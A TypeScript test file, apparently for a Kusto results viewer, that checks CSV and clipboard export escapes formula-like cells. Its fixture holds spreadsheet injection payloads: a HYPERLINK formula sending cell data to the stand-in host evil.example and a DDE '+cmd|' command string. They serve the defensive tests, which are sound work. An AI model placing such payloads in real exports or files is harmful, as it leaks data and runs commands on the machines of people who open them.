import * as assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import type { KustoTable } from '../../src/core/kusto/resultTypes';
import { rowsOf } from '../../src/core/kusto/kustoRows';
import { ResultTable } from '../../src/core/results/resultView';
import { rowsToTsv, writeCsv } from '../../src/core/results/resultExport';

const hostile: KustoTable = {
  id: 0,
  name: 'PrimaryResult',
  kind: 'PrimaryResult',
  columns: [
    { name: 'Text', type: 'string' },
    { name: 'Amount', type: 'long' },
  ],
  rows: rowsOf([
    ['=HYPERLINK("https://evil.example/?d="&A2,"click")', -5],
    ['+cmd|\' /C calc\'!A0', 3],
    ['-2+3', 1],
    ['@SUM(1,1)', 2],
    ['\t=1+1', 0],
    ['\r=1+1', 0],
    ['safe = text', -1.5],
  ]),
};

async function csvOf(table: KustoTable, rawFormulas?: boolean): Promise<string> {
  let text = '';
  const out = new Writable({
    write(chunk: Buffer, _encoding, done) {
      text += chunk.toString('utf8');
      done();
    },
  });
  await writeCsv(new ResultTable(table).view(), out, { rawFormulas });
  return text;
}

describe('trust boundary 4: exported and copied cells never run as spreadsheet formulas', () => {
  it('prefixes formula-like cells with a quote in CSV by default, leaving numbers and plain text alone', async () => {
    const lines = (await csvOf(hostile)).split('\r\n');
    assert.equal(lines[1], `"'=HYPERLINK(""https://evil.example/?d=""&A2,""click"")",-5`);
    assert.equal(lines[2], `'+cmd|' /C calc'!A0,3`);
    assert.equal(lines[3], `'-2+3,1`);
    assert.equal(lines[4], `"'@SUM(1,1)",2`);
    assert.equal(lines[5], `'\t=1+1,0`);
    assert.equal(lines[6], `"'\r=1+1",0`);
    assert.equal(lines[7], 'safe = text,-1.5');
  });

  it('does the same for copied rows (TSV for the clipboard)', async () => {
    const { text } = await rowsToTsv(new ResultTable(hostile).view(), [{ start: 0, end: 2 }]);
    const [header, first, second] = text.split('\r\n');
    assert.equal(header, 'Text\tAmount');
    assert.ok(first.startsWith(`'=HYPERLINK(`), first);
    assert.ok(first.endsWith('\t-5'), 'a negative number stays a number');
    assert.ok(second.startsWith(`'+cmd|`), second);
  });

  it('writes cells as they are when the user asks for raw export (kusto.results.exportRawFormulas)', async () => {
    const lines = (await csvOf(hostile, true)).split('\r\n');
    assert.equal(lines[1], `"=HYPERLINK(""https://evil.example/?d=""&A2,""click"")",-5`);
    const { text: tsv } = await rowsToTsv(new ResultTable(hostile).view(), [{ start: 0, end: 1 }], { rawFormulas: true });
    assert.ok(tsv.split('\r\n')[1].startsWith('"=HYPERLINK(') || tsv.split('\r\n')[1].startsWith('=HYPERLINK('));
  });
});
